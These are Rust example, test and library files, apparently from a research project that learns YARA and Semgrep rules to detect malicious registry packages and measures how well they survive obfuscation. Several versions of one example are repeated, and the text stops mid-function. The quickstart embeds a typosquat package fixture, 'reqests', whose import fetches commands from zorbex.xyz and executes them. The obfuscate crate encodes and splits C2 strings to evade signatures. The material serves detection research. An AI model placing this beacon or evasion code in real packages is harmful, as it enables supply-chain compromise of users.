//! Adversarial gauntlet scenario: a malware author republishes a flagged
//! payload through escalating evasion profiles, and the registry's
//! scanhub — armed with RuleLLM rules learned from the *original*
//! campaign — screens each re-upload. Then the full robustness
//! experiment prints the per-transform recall-decay table over the tiny
//! corpus.
//!
//! ```text
//! cargo run --release --example adversarial_gauntlet
//! ```

use corpus::CorpusConfig;
use eval::experiments::{compile_output, run_rulellm, ExperimentContext};
use eval::{report, robustness};
use obfuscate::{EvasionProfile, Obfuscator};
use rulellm::PipelineConfig;
use scanhub::{HubConfig, ScanHub, ScanRequest};

fn main() {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    println!(
        "corpus: {} unique malware, {} legit packages",
        ctx.dataset.unique_malware().len(),
        ctx.dataset.legit.len()
    );

    println!("learning rules from the pristine corpus ...");
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    let hub = ScanHub::new(Some(yara), Some(semgrep), HubConfig::default());

    // One campaign, four uploads: the original, then light, medium and
    // aggressive mutants of the same payload.
    let target = &ctx.dataset.unique_malware()[0].package;
    let mut uploads = vec![("original".to_owned(), target.clone())];
    for profile in EvasionProfile::standard() {
        let mutant = Obfuscator::new(profile.clone(), 42).obfuscate_package(target);
        uploads.push((profile.name.clone(), mutant));
    }
    println!("\nre-upload gauntlet for '{}':", target.metadata().name);
    for (arm, pkg) in &uploads {
        let verdict = hub.submit(ScanRequest::from_package(pkg)).wait();
        println!(
            "  {:<12} -> {:<8} ({} YARA, {} Semgrep, {} decoded-layer, {} taint-flow matches{})",
            arm,
            if verdict.flagged() {
                "FLAGGED"
            } else {
                "PASSED"
            },
            verdict.yara.len(),
            verdict.semgrep.len(),
            verdict.layers.len(),
            verdict.flows.len(),
            if verdict.from_cache { ", cached" } else { "" },
        );
        for layer in &verdict.layers {
            println!(
                "               layer hit: rule {} in {} ({} payload, depth {}, line {})",
                layer.rule, layer.file, layer.encoding, layer.depth, layer.line
            );
        }
    }
    let stats = hub.stats();
    println!(
        "service counters: {} scanned, cache hit rate {:.1}%, artifact hit rate {:.1}%, \
         {} layers decoded, prefilter skip rate {:.1}%",
        stats.completed,
        stats.cache_hit_rate() * 100.0,
        stats.artifact_hit_rate() * 100.0,
        stats.layers_decoded,
        stats.prefilter_skip_rate() * 100.0,
    );

    // Act: the mutant every surface rule misses. Rename + import
    // aliasing + call indirection + string encoding erase the spellings
    // the learned rules key on, but the source→sink structure survives
    // — only the behavior engine sees it.
    println!("\nhunting for an aggressive mutant that escapes every surface rule ...");
    let (yara2, semgrep2) = compile_output(&output);
    let surface = ScanHub::new(
        Some(yara2),
        Some(semgrep2),
        HubConfig {
            dataflow: false,
            ..HubConfig::default()
        },
    );
    let behavior = ScanHub::new(None, None, HubConfig::default());
    let aggressive = EvasionProfile::standard()
        .into_iter()
        .find(|p| p.name == "aggressive")
        .expect("aggressive profile");
    let mut escaped = 0;
    'hunt: for m in ctx.dataset.unique_malware() {
        for seed in 0..8 {
            let mutant = Obfuscator::new(aggressive.clone(), seed).obfuscate_package(&m.package);
            let request = ScanRequest::from_package(&mutant);
            if surface.submit(request.clone()).wait().flagged() {
                continue;
            }
            let verdict = behavior.submit(request).wait();
            if verdict.flows.is_empty() {
                continue;
            }
            escaped += 1;
            println!(
                "  '{}' (seed {seed}): surface rules PASSED, behavior engine FLAGGED",
                mutant.metadata().name
            );
            for record in &verdict.flows {
                println!(
                    "    {} in {}: {} -> {}",
                    record.flow.label, record.file, record.flow.source, record.flow.sink
                );
                for step in &record.flow.steps {
                    println!("      line {:>3}: {}", step.line, step.note);
                }
            }
            break 'hunt;
        }
    }
    if escaped == 0 {
        println!("  (every aggressive mutant was still caught by a surface rule)");
    }

    println!("\nrunning the full robustness experiment (fixed seed 42) ...\n");
    let rep = robustness::robustness(&ctx, 42);
    println!("{}", report::render_robustness(&rep));

    println!("measuring decoded-layer recovery on string-encoded mutants ...\n");
    let recovery = robustness::layered_recovery(&ctx, 42);
    println!("{}", report::render_layered_recovery(&recovery));

    println!("measuring behavior-engine recall under the same profiles ...\n");
    let taint = robustness::taint_robustness(&ctx, 42);
    println!("{}", report::render_taint_robustness(&taint));
}

//! Quickstart: generate YARA & Semgrep rules for one malicious package
//! and scan it.
//!
//! ```text
//! cargo run -p rulellm --example quickstart
//! ```

use oss_registry::{Ecosystem, Package, PackageMetadata, SourceFile};
use rulellm::{Pipeline, PipelineConfig};
use yara_engine::Scanner;

fn main() {
    // A typosquatting package that beacons to a C2 server on import —
    // the shape GuardDog finds on PyPI daily.
    let package = Package::new(
        PackageMetadata::new("reqests", "0.0.0"),
        vec![
            SourceFile::new(
                "setup.py",
                "from setuptools import setup\nsetup(name='reqests', version='0.0.0')\n",
            ),
            SourceFile::new(
                "reqests/__init__.py",
                "import os\nimport requests\n\n\ndef _beacon():\n    try:\n        cmd = requests.get('https://zorbex.xyz/tasks', timeout=5).text\n        os.system(cmd)\n    except Exception:\n        pass\n\n\n_beacon()\n",
            ),
        ],
        Ecosystem::PyPi,
    );

    // Run the full RuleLLM pipeline: extract -> craft -> refine -> align.
    let mut pipeline = Pipeline::new(PipelineConfig::full());
    let output = pipeline.run(&[&package]);

    println!(
        "generated {} YARA and {} Semgrep rules\n",
        output.yara.len(),
        output.semgrep.len()
    );
    for rule in &output.yara {
        println!("{}\n", rule.text);
    }
    for rule in &output.semgrep {
        println!("{}\n", rule.text);
    }

    // Deploy the YARA rules and scan the package.
    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("aligned rules compile");
    let scanner = Scanner::new(&compiled);
    let mut buffer = package.combined_source().into_bytes();
    buffer.extend_from_slice(oss_registry::render_pkg_info(package.metadata()).as_bytes());
    let hits = scanner.scan(&buffer);
    println!("scan verdict: {} rule(s) matched", hits.len());
    for hit in &hits {
        let strings: Vec<&str> = hit.strings.iter().map(|s| s.id.as_str()).collect();
        println!("  {} (strings: {})", hit.rule, strings.join(", "));
    }
    assert!(!hits.is_empty(), "the package must be detected");
}

//! Registry gatekeeping scenario: learn rules from a week of quarantined
//! uploads, stand up a `scanhub` scan service over them, then screen the
//! next wave of packages — including an unseen variant of a known family,
//! a legitimate upload, and a re-upload served straight from the verdict
//! cache. Every verdict is then explained from its flight-recorder
//! trace, without re-running a single scan.
//!
//! ```text
//! cargo run --example registry_gatekeeper
//! cargo run --example registry_gatekeeper -- --metrics   # + exporter dumps
//! ```

use corpus::{generate_legit_package, generate_malware_package, FAMILIES};
use rulellm::{Pipeline, PipelineConfig};
use scanhub::{HubConfig, ScanHub, ScanRequest};

fn main() {
    let dump_metrics = std::env::args().any(|a| a == "--metrics");
    // Monday-to-Friday quarantine: three variants each from two active
    // campaigns (a C2 beacon family and a base64 dropper family).
    let beacon = FAMILIES
        .iter()
        .find(|f| f.stem == "beaconlite")
        .expect("family");
    let dropper = FAMILIES
        .iter()
        .find(|f| f.stem == "execb64")
        .expect("family");
    let mut quarantine = Vec::new();
    for variant in 0..3 {
        quarantine.push(generate_malware_package(beacon, variant, 7).0);
        quarantine.push(generate_malware_package(dropper, variant, 7).0);
    }
    let refs: Vec<&oss_registry::Package> = quarantine.iter().collect();

    println!("learning rules from {} quarantined uploads ...", refs.len());
    // Two active campaigns -> two code groups. (With a larger corpus the
    // default k = n/4 discovers this on its own.)
    let mut config = PipelineConfig::full();
    config.cluster_k = Some(2);
    let mut pipeline = Pipeline::new(config);
    let output = pipeline.run(&refs);
    println!(
        "pipeline: {} crafted, {} refined, {} aligned, {} dropped -> {} YARA / {} Semgrep rules",
        output.stats.crafted,
        output.stats.refined,
        output.stats.aligned_ok,
        output.stats.dropped,
        output.yara.len(),
        output.semgrep.len(),
    );

    // Stand up the scan service over the learned ruleset.
    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("rules compile");
    let hub = ScanHub::new(Some(compiled), None, HubConfig::default());
    println!(
        "scanhub up: {} atoms indexed, {} always-on rules\n",
        hub.prefilter_index().atom_count(),
        hub.prefilter_index().always_on_count(),
    );

    // Saturday's upload queue: an unseen variant of each campaign, a
    // legitimate package, and a re-upload of the same legitimate package
    // (registry clients love retrying).
    let unseen_beacon = generate_malware_package(beacon, 99, 7).0;
    let unseen_dropper = generate_malware_package(dropper, 99, 7).0;
    let legit = generate_legit_package(3, 7);

    let queue = [
        ("unseen beacon variant", &unseen_beacon, true),
        ("unseen dropper variant", &unseen_dropper, true),
        ("legitimate upload", &legit, false),
        ("legitimate re-upload", &legit, false),
    ];
    let mut digests = Vec::new();
    for (label, pkg, expect) in &queue {
        // Sequential submit-then-wait: the verdict cache keys on content,
        // so the re-upload is answered without a scan.
        let request = ScanRequest::from_package(pkg);
        let digest = request.digest_hex();
        let verdict = hub.submit(request).wait();
        let decision = if verdict.flagged() { "BLOCK" } else { "PASS" };
        let provenance = if verdict.from_cache { ", cached" } else { "" };
        println!(
            "{label:<24} ({:<14}) -> {decision} ({} rules{provenance})",
            pkg.metadata().name,
            verdict.total(),
        );
        assert_eq!(verdict.flagged(), *expect, "{label} misclassified");
        digests.push((*label, digest, verdict));
    }

    // Every verdict is explainable after the fact from the flight
    // recorder alone: the trace names each fired rule with its evidence
    // provenance and shows where the request's time went.
    println!("\n== verdict explanations (from the flight recorder, no re-scan) ==");
    for (label, digest, verdict) in &digests {
        let trace = hub
            .trace_for_digest(digest)
            .expect("every screened upload leaves a trace");
        assert_eq!(
            trace.fired.len(),
            verdict.total(),
            "{label}: trace and verdict disagree"
        );
        assert_eq!(trace.flagged, verdict.flagged());
        println!("[{label}]\n{trace}\n");
    }

    if let Some(worst) = hub.worst_trace() {
        println!("== slowest scan still on record ==\n{worst}\n");
    }

    let stats = hub.stats();
    println!("{stats}");
    assert_eq!(stats.cache_hits, 1, "the re-upload must be a cache hit");

    if dump_metrics {
        println!("== prometheus exposition ==");
        print!("{}", hub.export_prometheus());
        println!("\n== json metrics ==");
        println!("{}", hub.export_json().to_string_pretty());
    }
    println!("gatekeeper verdicts all correct.");
}

//! Registry gatekeeping scenario: learn rules from a week of quarantined
//! uploads, stand up a `scanhub` scan service over them, then screen the
//! next wave of packages — including an unseen variant of a known family,
//! a legitimate upload, and a re-upload served straight from the verdict
//! cache. Every verdict is then explained from its flight-recorder
//! trace, without re-running a single scan.
//!
//! ```text
//! cargo run --example registry_gatekeeper
//! cargo run --example registry_gatekeeper -- --metrics   # + exporter dumps
//! ```

use corpus::{generate_legit_package, generate_malware_package, FAMILIES};
use rulellm::{Pipeline, PipelineConfig};
use scanhub::{HubConfig, ScanHub, ScanRequest};

fn main() {
    let dump_metrics = std::env::args().any(|a| a == "--metrics");
    // Monday-to-Friday quarantine: three variants each from two active
    // campaigns (a C2 beacon family and a base64 dropper family).
    let beacon = FAMILIES
        .iter()
        .find(|f| f.stem == "beaconlite")
        .expect("family");
    let dropper = FAMILIES
        .iter()
        .find(|f| f.stem == "execb64")
        .expect("family");
    let mut quarantine = Vec::new();
    for variant in 0..3 {
        quarantine.push(generate_malware_package(beacon, variant, 7).0);
        quarantine.push(generate_malware_package(dropper, variant, 7).0);
    }
    let refs: Vec<&oss_registry::Package> = quarantine.iter().collect();

    println!("learning rules from {} quarantined uploads ...", refs.len());
    // Two active campaigns -> two code groups. (With a larger corpus the
    // default k = n/4 discovers this on its own.)
    let mut config = PipelineConfig::full();
    config.cluster_k = Some(2);
    let mut pipeline = Pipeline::new(config);
    let output = pipeline.run(&refs);
    println!(
        "pipeline: {} crafted, {} refined, {} aligned, {} dropped -> {} YARA / {} Semgrep rules",
        output.stats.crafted,
        output.stats.refined,
        output.stats.aligned_ok,
        output.stats.dropped,
        output.yara.len(),
        output.semgrep.len(),
    );

    // Stand up the scan service over the learned ruleset.
    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("rules compile");
    let hub = ScanHub::new(Some(compiled), None, HubConfig::default());
    println!(
        "scanhub up: {} atoms indexed, {} always-on rules\n",
        hub.prefilter_index().atom_count(),
        hub.prefilter_index().always_on_count(),
    );

    // Saturday's upload queue: an unseen variant of each campaign, a
    // legitimate package, and a re-upload of the same legitimate package
    // (registry clients love retrying).
    let unseen_beacon = generate_malware_package(beacon, 99, 7).0;
    let unseen_dropper = generate_malware_package(dropper, 99, 7).0;
    let legit = generate_legit_package(3, 7);

    let queue = [
        ("unseen beacon variant", &unseen_beacon, true),
        ("unseen dropper variant", &unseen_dropper, true),
        ("legitimate upload", &legit, false),
        ("legitimate re-upload", &legit, false),
    ];
    let mut digests = Vec::new();
    for (label, pkg, expect) in &queue {
        // Sequential submit-then-wait: the verdict cache keys on content,
        // so the re-upload is answered without a scan.
        let request = ScanRequest::from_package(pkg);
        let digest = request.digest_hex();
        let verdict = hub.submit(request).wait();
        let decision = if verdict.flagged() { "BLOCK" } else { "PASS" };
        let provenance = if verdict.from_cache { ", cached" } else { "" };
        println!(
            "{label:<24} ({:<14}) -> {decision} ({} rules{provenance})",
            pkg.metadata().name,
            verdict.total(),
        );
        assert_eq!(verdict.flagged(), *expect, "{label} misclassified");
        digests.push((*label, digest, verdict));
    }

    // One more Saturday upload: a campaign nobody has rules for yet.
    // It sails through today — but its analysis artifact (and its
    // content's posting lists in the retro index) stay resident.
    let stealer = FAMILIES
        .iter()
        .find(|f| f.stem == "envgrab")
        .expect("family");
    let missed = generate_malware_package(stealer, 0, 7).0;
    let missed_verdict = hub.submit(ScanRequest::from_package(&missed)).wait();
    println!(
        "{:<24} ({:<14}) -> {}",
        "unknown stealer",
        missed.metadata().name,
        if missed_verdict.flagged() {
            "BLOCK"
        } else {
            "PASS (no rules for it yet)"
        },
    );

    // Every verdict is explainable after the fact from the flight
    // recorder alone: the trace names each fired rule with its evidence
    // provenance and shows where the request's time went.
    println!("\n== verdict explanations (from the flight recorder, no re-scan) ==");
    for (label, digest, verdict) in &digests {
        let trace = hub
            .trace_for_digest(digest)
            .expect("every screened upload leaves a trace");
        assert_eq!(
            trace.fired.len(),
            verdict.total(),
            "{label}: trace and verdict disagree"
        );
        assert_eq!(trace.flagged, verdict.flagged());
        println!("[{label}]\n{trace}\n");
    }

    if let Some(worst) = hub.worst_trace() {
        println!("== slowest scan still on record ==\n{worst}\n");
    }

    let stats = hub.stats();
    println!("{stats}");
    assert_eq!(stats.cache_hits, 1, "the re-upload must be a cache hit");

    // Sunday: the stealer campaign is identified and rules are learned
    // from its quarantined variants. Instead of rescanning every upload
    // ever screened, deploy the refreshed bundle as a *delta* and
    // retro-hunt it: the atom→digest index nominates candidate digests
    // and only those are confirm-scanned.
    println!("== Sunday rule refresh: retro-hunt instead of rescan ==");
    let stealer_quarantine: Vec<oss_registry::Package> = (1..4)
        .map(|variant| generate_malware_package(stealer, variant, 7).0)
        .collect();
    let stealer_refs: Vec<&oss_registry::Package> = stealer_quarantine.iter().collect();
    let mut update_config = PipelineConfig::full();
    update_config.cluster_k = Some(1);
    let update = Pipeline::new(update_config).run(&stealer_refs);
    // Both runs emit the same deterministic generic-metadata rule; keep
    // the live copy so the combined bundle compiles and diffs cleanly.
    let live_names: std::collections::HashSet<String> = output
        .yara
        .iter()
        .filter_map(|r| rule_name(&r.text))
        .collect();
    let mut combined = output.yara_ruleset();
    for rule in &update.yara {
        if rule_name(&rule.text).is_some_and(|n| live_names.contains(&n)) {
            continue;
        }
        combined.push_str(&rule.text);
        combined.push('\n');
    }
    let deployment = hub.deploy_rules(
        Some(yara_engine::compile(&combined).expect("combined rules compile")),
        None,
    );
    println!(
        "delta: {} new/changed rules, {} unchanged (never re-hunted)",
        deployment.delta.changed.len(),
        deployment.delta.unchanged,
    );
    let report = hub
        .retro_hunt(&deployment)
        .expect("retro index is on by default");
    println!(
        "retro-hunt: {} candidates over {} indexed digests -> {} confirm scans, {} hits",
        report.candidates,
        report.digests_indexed,
        report.confirm_scans,
        report.total_hits(),
    );
    for rule in report.rules.iter().filter(|r| !r.digests.is_empty()) {
        println!(
            "  {} retroactively flags {} already-scanned digest(s)",
            rule.rule,
            rule.digests.len(),
        );
    }
    assert!(
        report.total_hits() > 0,
        "the stealer upload screened on Saturday must be found in history"
    );
    println!();

    if dump_metrics {
        println!("== prometheus exposition ==");
        print!("{}", hub.export_prometheus());
        println!("\n== json metrics ==");
        println!("{}", hub.export_json().to_string_pretty());
    }
    println!("gatekeeper verdicts all correct.");
}

/// The identifier following `rule` in a YARA rule's source text.
fn rule_name(text: &str) -> Option<String> {
    let rest = text.trim_start().strip_prefix("rule")?.trim_start();
    let end = rest
        .find(|c: char| !c.is_ascii_alphanumeric() && c != '_')
        .unwrap_or(rest.len());
    (end > 0).then(|| rest[..end].to_owned())
}

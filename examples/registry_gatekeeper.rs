//! Registry gatekeeping scenario: learn rules from a week of quarantined
//! uploads, stand up a `scanhub` scan service over them, then screen the
//! next wave of packages — including an unseen variant of a known family,
//! a legitimate upload, and a re-upload served straight from the verdict
//! cache.
//!
//! ```text
//! cargo run --example registry_gatekeeper
//! ```

use corpus::{generate_legit_package, generate_malware_package, FAMILIES};
use rulellm::{Pipeline, PipelineConfig};
use scanhub::{HubConfig, ScanHub, ScanRequest};

fn main() {
    // Monday-to-Friday quarantine: three variants each from two active
    // campaigns (a C2 beacon family and a base64 dropper family).
    let beacon = FAMILIES
        .iter()
        .find(|f| f.stem == "beaconlite")
        .expect("family");
    let dropper = FAMILIES
        .iter()
        .find(|f| f.stem == "execb64")
        .expect("family");
    let mut quarantine = Vec::new();
    for variant in 0..3 {
        quarantine.push(generate_malware_package(beacon, variant, 7).0);
        quarantine.push(generate_malware_package(dropper, variant, 7).0);
    }
    let refs: Vec<&oss_registry::Package> = quarantine.iter().collect();

    println!("learning rules from {} quarantined uploads ...", refs.len());
    // Two active campaigns -> two code groups. (With a larger corpus the
    // default k = n/4 discovers this on its own.)
    let mut config = PipelineConfig::full();
    config.cluster_k = Some(2);
    let mut pipeline = Pipeline::new(config);
    let output = pipeline.run(&refs);
    println!(
        "pipeline: {} crafted, {} refined, {} aligned, {} dropped -> {} YARA / {} Semgrep rules",
        output.stats.crafted,
        output.stats.refined,
        output.stats.aligned_ok,
        output.stats.dropped,
        output.yara.len(),
        output.semgrep.len(),
    );

    // Stand up the scan service over the learned ruleset.
    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("rules compile");
    let hub = ScanHub::new(Some(compiled), None, HubConfig::default());
    println!(
        "scanhub up: {} atoms indexed, {} always-on rules\n",
        hub.prefilter_index().atom_count(),
        hub.prefilter_index().always_on_count(),
    );

    // Saturday's upload queue: an unseen variant of each campaign, a
    // legitimate package, and a re-upload of the same legitimate package
    // (registry clients love retrying).
    let unseen_beacon = generate_malware_package(beacon, 99, 7).0;
    let unseen_dropper = generate_malware_package(dropper, 99, 7).0;
    let legit = generate_legit_package(3, 7);

    let queue = [
        ("unseen beacon variant", &unseen_beacon, true),
        ("unseen dropper variant", &unseen_dropper, true),
        ("legitimate upload", &legit, false),
        ("legitimate re-upload", &legit, false),
    ];
    for (label, pkg, expect) in &queue {
        // Sequential submit-then-wait: the verdict cache keys on content,
        // so the re-upload is answered without a scan.
        let verdict = hub.submit(ScanRequest::from_package(pkg)).wait();
        let decision = if verdict.flagged() { "BLOCK" } else { "PASS" };
        let provenance = if verdict.from_cache { ", cached" } else { "" };
        println!(
            "{label:<24} ({:<14}) -> {decision} ({} rules{provenance})",
            pkg.metadata().name,
            verdict.total(),
        );
        assert_eq!(verdict.flagged(), *expect, "{label} misclassified");
    }

    let stats = hub.stats();
    println!(
        "\nhub stats: {} submitted, {} scanned, cache hit rate {:.0}%, \
         {} files analyzed ({} artifact-cache hits), prefilter skip rate {:.0}%",
        stats.submitted,
        stats.completed - stats.cache_hits,
        stats.cache_hit_rate() * 100.0,
        stats.artifact_parses,
        stats.artifact_cache_hits,
        stats.prefilter_skip_rate() * 100.0,
    );
    assert_eq!(stats.cache_hits, 1, "the re-upload must be a cache hit");
    println!("gatekeeper verdicts all correct.");
}

//! Registry gatekeeping scenario: learn rules from a week of quarantined
//! uploads, then screen the next wave of packages — including an unseen
//! variant of a known family and a legitimate upload.
//!
//! ```text
//! cargo run -p rulellm --example registry_gatekeeper
//! ```

use corpus::{generate_legit_package, generate_malware_package, FAMILIES};
use rulellm::{Pipeline, PipelineConfig};
use yara_engine::Scanner;

fn main() {
    // Monday-to-Friday quarantine: three variants each from two active
    // campaigns (a C2 beacon family and a base64 dropper family).
    let beacon = FAMILIES.iter().find(|f| f.stem == "beaconlite").expect("family");
    let dropper = FAMILIES.iter().find(|f| f.stem == "execb64").expect("family");
    let mut quarantine = Vec::new();
    for variant in 0..3 {
        quarantine.push(generate_malware_package(beacon, variant, 7).0);
        quarantine.push(generate_malware_package(dropper, variant, 7).0);
    }
    let refs: Vec<&oss_registry::Package> = quarantine.iter().collect();

    println!("learning rules from {} quarantined uploads ...", refs.len());
    // Two active campaigns -> two code groups. (With a larger corpus the
    // default k = n/4 discovers this on its own.)
    let mut config = PipelineConfig::full();
    config.cluster_k = Some(2);
    let mut pipeline = Pipeline::new(config);
    let output = pipeline.run(&refs);
    println!(
        "pipeline: {} crafted, {} refined, {} aligned, {} dropped -> {} YARA / {} Semgrep rules\n",
        output.stats.crafted,
        output.stats.refined,
        output.stats.aligned_ok,
        output.stats.dropped,
        output.yara.len(),
        output.semgrep.len(),
    );

    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("rules compile");
    let scanner = Scanner::new(&compiled);

    // Saturday's upload queue: an unseen variant of each campaign plus a
    // legitimate package.
    let unseen_beacon = generate_malware_package(beacon, 99, 7).0;
    let unseen_dropper = generate_malware_package(dropper, 99, 7).0;
    let legit = generate_legit_package(3, 7);

    for (label, pkg, expect) in [
        ("unseen beacon variant", &unseen_beacon, true),
        ("unseen dropper variant", &unseen_dropper, true),
        ("legitimate upload", &legit, false),
    ] {
        let mut buffer = pkg.combined_source().into_bytes();
        buffer.extend_from_slice(oss_registry::render_pkg_info(pkg.metadata()).as_bytes());
        let hits = scanner.scan(&buffer);
        let verdict = if hits.is_empty() { "PASS" } else { "BLOCK" };
        println!(
            "{label:<24} ({:<14}) -> {verdict} ({} rules)",
            pkg.metadata().name,
            hits.len()
        );
        assert_eq!(!hits.is_empty(), expect, "{label} misclassified");
    }
    println!("\ngatekeeper verdicts all correct.");
}

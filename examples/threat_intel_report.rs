//! Threat-intelligence scenario: generate rules over a malware corpus and
//! produce the analyst-facing report — taxonomy breakdown (Table XII),
//! category overlaps (Fig. 11) and the broadest signatures.
//!
//! ```text
//! cargo run --release -p rulellm --example threat_intel_report
//! ```

use corpus::{CorpusConfig, Dataset};
use eval::experiments::{
    compile_output, fig11, per_rule_stats, run_rulellm, table12, ExperimentContext,
};
use eval::report;
use llm_sim::RuleFormat;
use rulellm::PipelineConfig;

fn main() {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let stats = ctx.dataset.stats();
    println!(
        "corpus: {} malware ({} unique), {} legitimate\n",
        stats.malware_total, stats.malware_unique, stats.legit_total
    );

    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    println!(
        "generated {} YARA + {} Semgrep rules\n",
        output.yara.len(),
        output.semgrep.len()
    );

    // Table XII-style taxonomy.
    println!("{}", report::render_taxonomy(&table12(&output)));

    // Fig. 11-style category overlap.
    println!("{}", report::render_overlap(&fig11(&output)));

    // Broadest signatures (the paper's fake-version / C2 examples).
    let (yara, semgrep) = compile_output(&output);
    let matches = eval::scan::scan_all(Some(&yara), Some(&semgrep), &ctx.targets);
    let names: Vec<String> = yara.rules.iter().map(|r| r.rule.name.clone()).collect();
    let stats = per_rule_stats(&names, &matches, &ctx.targets, RuleFormat::Yara);
    println!("{}", report::render_top_rules(&stats, 8));

    let _ = Dataset::generate; // keep the corpus API in scope for readers
}

//! Baseline comparison scenario (Table VIII in miniature): RuleLLM vs the
//! scanner corpora vs the score-based signature generator on one corpus.
//!
//! ```text
//! cargo run --release -p rulellm --example baseline_shootout
//! ```

use corpus::CorpusConfig;
use eval::experiments::{table8, ExperimentContext};
use eval::report;

fn main() {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let (rows, _) = table8(&ctx);
    println!(
        "{}",
        report::render_metrics_table("Main comparison (tiny corpus)", &rows)
    );

    let best = rows
        .iter()
        .max_by(|a, b| a.confusion.f1().total_cmp(&b.confusion.f1()))
        .expect("rows nonempty");
    println!("best F1: {}", best.name);
    assert_eq!(best.name, "RuleLLM", "RuleLLM must lead the comparison");
}

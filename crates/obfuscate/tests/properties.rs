//! Metamorphic properties of the mutation engine: determinism, parser
//! survivability, and structure preservation on randomized programs.

use obfuscate::{EvasionProfile, Obfuscator, Transform};
use proptest::prelude::*;

/// Assembles a small malware-shaped program from random fragments.
fn program(fn_name: &str, var: &str, host: &str, pad: u64) -> String {
    format!(
        "\"\"\"synthetic module\"\"\"\nimport os\nimport base64\n\n\
def {fn_name}(arg):\n    {var} = 'http://{host}/x'\n    os.system({var})\n    return arg\n\n\
marker = {pad}\n{fn_name}(marker)\n"
    )
}

fn profiles() -> Vec<EvasionProfile> {
    let mut out = EvasionProfile::standard();
    out.extend(Transform::ALL.iter().map(|t| EvasionProfile::single(*t)));
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    #[test]
    fn same_seed_yields_byte_identical_mutants(
        fn_name in "[a-z]{4,10}",
        var in "[a-z]{3,8}",
        host in "[a-z]{3,10}",
        pad in 0u64..1000,
        seed in any::<u64>(),
    ) {
        prop_assume!(fn_name != var);
        let src = program(&fn_name, &var, &host, pad);
        for profile in profiles() {
            let a = Obfuscator::new(profile.clone(), seed).obfuscate_source(&src);
            let b = Obfuscator::new(profile.clone(), seed).obfuscate_source(&src);
            prop_assert_eq!(&a, &b, "profile {} not deterministic", profile.name);
        }
    }

    #[test]
    fn mutants_still_lex_and_parse(
        fn_name in "[a-z]{4,10}",
        var in "[a-z]{3,8}",
        host in "[a-z]{3,10}",
        pad in 0u64..1000,
        seed in any::<u64>(),
    ) {
        prop_assume!(fn_name != var);
        let src = program(&fn_name, &var, &host, pad);
        for profile in profiles() {
            let out = Obfuscator::new(profile.clone(), seed).obfuscate_source(&src);
            let tokens = pysrc::lex(&out);
            prop_assert!(matches!(
                tokens.last().map(|t| &t.kind),
                Some(pysrc::TokenKind::Eof)
            ));
            let module = pysrc::parse_module(&out);
            prop_assert!(
                !module.body.is_empty(),
                "profile {} produced an unparsable mutant:\n{}",
                profile.name,
                out
            );
        }
    }

    #[test]
    fn import_set_is_invariant(
        fn_name in "[a-z]{4,10}",
        var in "[a-z]{3,8}",
        host in "[a-z]{3,10}",
        seed in any::<u64>(),
    ) {
        prop_assume!(fn_name != var);
        let src = program(&fn_name, &var, &host, 7);
        let mut base = pysrc::collect_imports(&pysrc::parse_module(&src));
        base.sort();
        for profile in profiles() {
            let out = Obfuscator::new(profile.clone(), seed).obfuscate_source(&src);
            let mut got = pysrc::collect_imports(&pysrc::parse_module(&out));
            got.sort();
            prop_assert_eq!(
                &got, &base,
                "profile {} changed the import set:\n{}", profile.name, out
            );
        }
    }

    #[test]
    fn aggressive_mutant_kills_the_contiguous_atoms(
        fn_name in "[a-z]{6,10}",
        var in "[a-z]{4,8}",
        host in "[a-z]{6,10}",
        seed in any::<u64>(),
    ) {
        prop_assume!(fn_name != var && fn_name != host && var != host);
        let src = program(&fn_name, &var, &host, 3);
        let out = Obfuscator::new(EvasionProfile::aggressive(), seed).obfuscate_source(&src);
        prop_assert!(out != src);
        // The author-chosen function name is gone...
        prop_assert!(!out.contains(&fn_name), "rename failed:\n{out}");
        // ...and the mutant still declares exactly one function.
        let module = pysrc::parse_module(&out);
        let defs = count_defs(&module.body);
        prop_assert!(defs >= 1, "function lost:\n{out}");
    }
}

fn count_defs(stmts: &[pysrc::Stmt]) -> usize {
    stmts
        .iter()
        .map(|s| match s {
            pysrc::Stmt::FunctionDef { body, .. } => 1 + count_defs(body),
            pysrc::Stmt::ClassDef { body, .. } | pysrc::Stmt::Block { body, .. } => {
                count_defs(body)
            }
            _ => 0,
        })
        .sum()
}

/// Transforms never mangle a file so badly the lexer loses the payload
/// line count entirely: the mutant has at least as many lines.
#[test]
fn mutants_never_shrink_below_the_original_statement_count() {
    let src = "import os\n\ndef a():\n    return 1\n\ndef b():\n    return 2\n\nx = a() + b()\n";
    for profile in profiles() {
        for seed in 0..4u64 {
            let out = Obfuscator::new(profile.clone(), seed).obfuscate_source(src);
            let base = pysrc::parse_module(src).body.len();
            let got = pysrc::parse_module(&out).body.len();
            assert!(
                got >= base,
                "profile {} seed {seed} lost statements: {got} < {base}\n{out}",
                profile.name
            );
        }
    }
}

//! String-literal obfuscation: split, hex-encode or base64-encode plain
//! string literals into runtime-equivalent expressions.
//!
//! These are the canonical registry-malware tricks: a C2 hostname that
//! never appears contiguously in the file defeats every literal atom a
//! YARA rule keys on, while `bytes.fromhex(...)`/`b64decode(...)` keep
//! the runtime value byte-identical.

use pysrc::TokenKind;
use rand::rngs::StdRng;
use rand::Rng;

use crate::edit::{apply_edits, Edit, TokenView};

/// Renders `value` as a quoted Python single-line string literal.
fn quote(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            other => out.push(other),
        }
    }
    out.push('\'');
    out
}

/// `('ab' + 'cd' + 'ef')` — concatenation of 2–4 chunks split at
/// rng-chosen char boundaries.
fn split_expr(value: &str, rng: &mut StdRng) -> String {
    let chars: Vec<char> = value.chars().collect();
    let pieces = rng.gen_range(2..=4usize).min(chars.len());
    let mut cuts: Vec<usize> = (0..pieces - 1)
        .map(|_| rng.gen_range(1..chars.len()))
